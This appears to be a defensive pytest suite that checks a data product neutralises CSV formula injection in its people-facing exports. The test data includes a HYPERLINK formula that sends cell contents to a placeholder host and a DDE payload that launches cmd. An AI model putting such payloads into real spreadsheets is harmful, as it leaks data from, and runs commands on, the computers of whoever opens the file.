"""Every CSV the product writes for people neutralises formula-like cells (OWASP).

Formula-like values get in the way an attacker would put them: typed at the login page,
submitted as a person_id, a surname or a date by an agency. Each CSV output is then
written through the product's own code and read back with the ``csv`` module.
"""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from clearsight.access import LoginRefused, login
from clearsight.cli import app
from clearsight.exports import write_networks_csv
from clearsight.exports.safe_csv import neutralise, write_query
from clearsight.ingest import ingest
from clearsight.report.tables import write_csv as write_report_csv
from clearsight.stats.table import Column, Provenance, Row, StatTable
from clearsight.store import connect
from clearsight.synth import generate

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
INJECTED = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # Plain numbers are read as numbers, never formulas: left as they are.
        ("-1.5", "-1.5"),
        ("+447700900123", "+447700900123"),
        ("-3e5", "-3e5"),
        (-1.5, "-1.5"),
        (7, "7"),
        (None, ""),
        ("Smith", "Smith"),
        ("a=b", "a=b"),
        ("", ""),
        ("-", "'-"),
    ],
)
def test_neutralise(value: object, written: str) -> None:
    assert neutralise(value) == written


def _unsafe(path: Path) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with a trigger and not a plain number."""
    with path.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells, f"{path} is empty"
    number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
    return [c for c in cells if c[:1] in "=+-@\t\r" and c and not number.fullmatch(c)]


@pytest.fixture(scope="module")
def injected_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real store from a synthetic submission an agency filled with formulas: a
    person_id and surname that load, a date of birth that loads empty with a warning, a
    role that is quarantined."""
    root = tmp_path_factory.mktemp("injected")
    generate(root / "data", ["west-yorkshire"], scale=0.02, seed=5)
    folder = next(p for p in sorted((root / "data" / "submissions").iterdir()) if p.is_dir())
    sub = root / "sub"
    shutil.copytree(folder, sub)
    persons = sub / "persons.csv"
    with persons.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    pid, surname, dob = (header.index(c) for c in ("person_id", "surname", "date_of_birth"))
    rows[1][pid], rows[1][surname] = "=2+5", FORMULA
    rows[2][dob] = "=1+1"
    with persons.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    # A role is required: a formula there quarantines its row (an optional date warns).
    involvements = sub / "involvements.csv"
    with involvements.open(encoding="utf-8", newline="") as handle:
        inv = list(csv.reader(handle))
    inv[1][inv[0].index("role")] = "=1+1"
    with involvements.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(inv)
    db = root / "store.duckdb"
    con = connect(db)
    ingest(con, sub)
    loaded = con.execute("SELECT count(*) FROM current_persons WHERE person_id = '=2+5'")
    assert loaded.fetchall()[0][0] == 1
    for name in INJECTED:
        with pytest.raises(LoginRefused):
            login(con, name, "not the password", client="198.51.100.7")
    con.close()
    return db


def test_audit_export_csv(injected_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "audit.csv"
    result = CliRunner().invoke(
        app, ["audit", "export", "--db", str(injected_store), "--format", "csv", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text
    assert _unsafe(out) == []


def test_quarantine_csv(injected_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "quarantine.csv"
    result = CliRunner().invoke(
        app, ["quarantine", "list", "--db", str(injected_store), "--limit", "0", "--csv", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert "'=1+1" in out.read_text(encoding="utf-8")
    assert _unsafe(out) == []


def test_entities_export_csv(injected_store: Path, tmp_path: Path) -> None:
    """``clearsight export entities`` (the contract evaluations read) after a real link."""
    db = tmp_path / "linked.duckdb"
    shutil.copy(injected_store, db)
    linked = CliRunner().invoke(app, ["link", "--db", str(db)])
    assert linked.exit_code == 0, linked.output
    out = tmp_path / "entities.csv"
    result = CliRunner().invoke(app, ["export", "entities", "--db", str(db), "--out", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert "'=2+5" in text
    assert _unsafe(out) == []


def test_query_export_csv(injected_store: Path, tmp_path: Path) -> None:
    """``write_query``: the safe replacement for ``COPY ... TO`` (the entities export)."""
    out = tmp_path / "persons.csv"
    con = connect(injected_store, read_only=True)
    n = write_query(con, "SELECT source_id, person_id, surname_raw FROM current_persons", out)
    con.close()
    assert n > 1
    text = out.read_text(encoding="utf-8")
    assert "'=2+5" in text and "'=HYPERLINK(" in text
    assert _unsafe(out) == []


def test_networks_contract_csv(tmp_path: Path) -> None:
    con = connect(tmp_path / "n.duckdb")
    con.execute(
        "CREATE TABLE network_records AS SELECT * FROM (VALUES"
        " ('N-1', 'src', '=2+5', 'src/=2+5', 'offender'),"
        " ('N-1', 'src', '@cmd', 'src/@cmd', 'victim'))"
        " t(network_id, source_id, person_id, entity_id, role)"
    )
    con.execute("CREATE TABLE network_status (network_id VARCHAR, iicsa_status VARCHAR)")
    out = tmp_path / "networks.csv"
    assert write_networks_csv(con, out) == 2
    con.close()
    assert "'=2+5" in out.read_text(encoding="utf-8")
    assert _unsafe(out) == []


def test_report_table_csv(tmp_path: Path) -> None:
    table = StatTable(
        "t",
        "A table",
        [Column("n", "Count"), Column("change", "Change")],
        [Row("=a", "=HYPERLINK(1)", {"n": 5, "change": -1.5}), Row("b", "-b", {"n": 3})],
    )
    out = tmp_path / "t.csv"
    write_report_csv(table, out, Provenance(definitions=("@def",)))
    text = out.read_text(encoding="utf-8")
    assert "-1.5" in text and "'-1.5" not in text
    assert _unsafe(out) == []


# Writers of CSV that are not for people to open: each must round-trip exactly.
NOT_FOR_PEOPLE = {
    # An XLSX submission's sheets converted to CSV for ingest to read back.
    "src/clearsight/ingest/submission.py",
    # Synthetic submissions: the input format, read by ingest.
    "src/clearsight/synth/write.py",
    "src/clearsight/synth/run.py",
    "src/clearsight/synth/observe.py",
    # The one writer itself.
    "src/clearsight/exports/safe_csv.py",
}


def test_no_other_csv_writer() -> None:
    pattern = re.compile(r"csv\.writer|csv\.DictWriter|\.to_csv\(|\)\s*TO\s*'|COPY\s*\(")
    writers = {
        str(path.relative_to(ROOT))
        for path in (ROOT / "src").rglob("*.py")
        if pattern.search(path.read_text(encoding="utf-8"))
    }
    assert writers, "the scan found nothing: the pattern is broken"
    spark = {w for w in writers if w.startswith("src/clearsight/spark/")}
    # Spark's COPY writes Parquet, not CSV.
    for path in spark:
        assert "FORMAT parquet" in (ROOT / path).read_text(encoding="utf-8"), path
    assert writers - NOT_FOR_PEOPLE - spark == set()
